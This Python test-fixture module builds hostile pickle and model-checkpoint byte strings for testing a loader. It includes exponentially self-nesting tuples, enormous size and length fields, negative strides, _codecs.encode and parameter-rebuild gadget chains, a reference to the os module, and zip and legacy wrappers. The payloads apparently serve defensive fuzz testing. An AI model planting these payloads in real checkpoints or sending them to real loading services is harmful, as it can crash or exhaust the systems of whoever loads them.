"""Checkpoints and pickles that were made to hurt; each kind was found by fuzzing or by reading the code."""

import pickle
import struct
import zipfile


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value) if value < 2**31 else b"\x8a\x08" + struct.pack("<q", value)


def name(module: str, last: str) -> bytes:
    return f"c{module}\n{last}\n".encode()


def numbers(values) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


#: A tuple that holds itself twice, sixty times: 2^60 parts in 250 bytes.
TWICE = b"K\x01" + b"q\x00h\x00\x86" * 60


def storage(kind: str, key: bytes, count: bytes) -> bytes:
    return b"(" + text("storage") + kind.encode() + key + text("cpu") + count + b"tQ"


def tensor(held: bytes, sizes: bytes, strides: bytes) -> bytes:
    hooks = name("collections", "OrderedDict") + b")R"
    return (
        name("torch._utils", "_rebuild_tensor_v2") + b"(" + held + b"K\x00" + sizes + strides + b"\x89" + hooks + b"tR"
    )


FLOATS = name("torch", "FloatStorage").decode()
ONE = storage(FLOATS, text("0"), number(1))


def state(*entries: bytes) -> bytes:
    return b"\x80\x02}(" + b"".join(entries) + b"u."


CHECKPOINTS = {
    "kind of storage": state(text("w"), tensor(storage("", TWICE, b"") [:0] + b"(" + text("storage") + TWICE + text("0")
                             + text("cpu") + number(1) + b"tQ", numbers((1,)), numbers((1,)))),
    "key of storage": state(text("w"), tensor(storage(FLOATS, TWICE, number(1)), numbers((1,)), numbers((1,)))),
    "count of storage": state(text("w"), tensor(storage(FLOATS, text("0"), TWICE), numbers((1,)), numbers((1,)))),
    "sizes": state(text("w"), tensor(ONE, TWICE, numbers((1,)))),
    "long sizes": state(text("w"), tensor(ONE, numbers((2**47,) * 500), numbers((0,) * 500))),
    "negative stride": state(text("w"), tensor(ONE, numbers((1, 2)), b"(K\x01J\xff\xff\xff\xfft")),
    "encoding": state(text("w"), name("_codecs", "encode") + b"(" + text("a") + TWICE + b"tR"),
    "long name": state(text("w" * 5_000_000), tensor(ONE, numbers((1,)), numbers((1,)))),
    "long attack": b"\x80\x02cos\n" + b"s" * 60_000 + b"\n.",
    "long line": b"\x80\x02I" + b"1" * 10_000_000 + b"\n.",
    "many texts": b"\x80\x02" + name("_codecs", "encode") + b"q\x01" + text("a" * 10**6) + b"q\x02" + text("latin1")
    + b"q\x03" + b"h\x01h\x02h\x03\x86R" * 300 + b".",
    "parameters of parameters": state(
        text("w"), name("torch._utils", "_rebuild_parameter") * 300 + ONE + (b"K\x00K\x00\x87R") * 300),
    "huge text": b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b".",
    "huge integer": b"\x80\x02\x8b" + struct.pack("<i", 2**30) + b"\xff." ,
    "lists": b"\x80\x02" + b"]" * 3_000 + b".",
}  # fmt: skip


def zipped(path, content: bytes, *, script: bool = False):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a/data.pkl", content)
        archive.writestr("a/data/0", bytes(4))
        if script:
            archive.writestr("a/constants.pkl", content)
    return path


def legacy(path, content: bytes):
    head = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True})
    tail = pickle.dumps(["0"], 2) + struct.pack("<q", 1) + bytes(4)
    path.write_bytes(b"".join(pickle.dumps(one, 2) for one in head) + content + tail)
    return path
